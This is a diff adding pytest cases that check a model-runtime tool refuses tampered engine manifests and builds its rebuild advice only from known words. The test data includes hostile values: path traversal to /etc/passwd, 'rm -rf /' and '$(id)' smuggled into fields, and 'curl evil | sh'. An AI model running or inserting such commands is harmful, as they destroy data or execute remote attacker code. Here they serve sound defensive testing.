@@ -16,6 +16,8 @@ from gms_rt.engine.manifest import (
     Plan,
     newest_engines,
     read_manifest,
+    read_verified,
+    rebuild_command,
     verify_files,
     write_manifest,
 )
@@ -41,8 +43,13 @@ def test_a_manifest_survives_a_round_trip(tmp_path: Path) -> None:
         ({"height": 0}, "impossible sizes"),
         ({"height": "224"}, "impossible sizes"),
         ({"model": "../../etc/passwd"}, "outside its folder"),
+        ({"model": "\ud800"}, "no file can have"),
+        ({"files": {"a\nb": "0" * 64}}, "no file can have"),
         ({"precision": "fp8"}, "unknown precision"),
         ({"plans": [{"file": "x"}]}, "missing or unknown keys"),
+        ({"files": []}, "another type than expected .files"),
+        ({"model": 3}, "another type than expected .model"),
+        ({"targets": ["cpu; rm -rf /"]}, "unknown target"),
     ],
 )
 def test_foreign_manifests_are_refused(tmp_path: Path, change: dict[str, object], words: str) -> None:
@@ -70,6 +77,51 @@ def test_changed_bytes_are_found(tmp_path: Path) -> None:
     (tmp_path / "model.onnx").unlink()
     with pytest.raises(ArtifactError, match="cannot be read"):
         verify_files(tmp_path, good)
+
+
+@pytest.mark.parametrize("field", ["sm", "sha256", "file", "target"])
+def test_foreign_plans_are_refused(tmp_path: Path, field: str) -> None:
+    write_manifest(tmp_path, manifest())
+    path = tmp_path / MANIFEST
+    value = json.loads(path.read_text())
+    value["plans"][0][field] = ["89; rm -rf /"]
+    path.write_text(json.dumps(value))
+    with pytest.raises(ArtifactError, match=f"another type than expected .{field} of a plan"):
+        read_manifest(tmp_path)
+
+
+def test_bytes_are_compared_as_they_are_read(tmp_path: Path) -> None:
+    (tmp_path / "model.onnx").write_bytes(b"weights")
+    good = manifest(plans=[], files={"model.onnx": sha256_file(tmp_path / "model.onnx")})
+    assert read_verified(tmp_path, good, "model.onnx") == b"weights"
+    (tmp_path / "model.onnx").write_bytes(b"weightz")
+    with pytest.raises(ArtifactError, match="hash differs"):
+        read_verified(tmp_path, good, "model.onnx")
+    with pytest.raises(ArtifactError, match="not listed"):
+        read_verified(tmp_path, manifest(files={}), "model.onnx")
+
+
+@pytest.mark.parametrize(
+    ("changes", "command"),
+    [
+        (
+            {"source": {"kind": "bundled"}, "precision": "int8", "plans": []},
+            "gms-rt build --precision int8 --target cpu",
+        ),
+        ({"source": {"kind": "run", "run": "$(id)"}}, "gms-rt build RUN --precision fp32 --target cpu --sm 89"),
+        ({"source": {"kind": ["run"]}, "plans": []}, "gms-rt build GRAPH.onnx --precision fp32 --target cpu"),
+        (
+            {"precision": "int8", "plans": [], "source": {"graph": "; id"}},
+            "gms-rt build GRAPH.onnx --precision int8 --target cpu --calib IMAGES",
+        ),
+    ],
+)
+def test_the_advice_is_made_of_known_words(tmp_path: Path, changes: dict[str, object], command: str) -> None:
+    foreign = manifest(name="; id", rebuild="curl evil | sh", **changes)
+    assert rebuild_command(tmp_path, foreign) == f"{command} --out {tmp_path}"
+    with pytest.raises(ArtifactError) as found:
+        verify_files(tmp_path, foreign)
+    assert "evil" not in found.value.line() and "rebuild: gms-rt build" in found.value.line()
 
 
 def test_the_newest_engine_comes_first(tmp_path: Path) -> None:
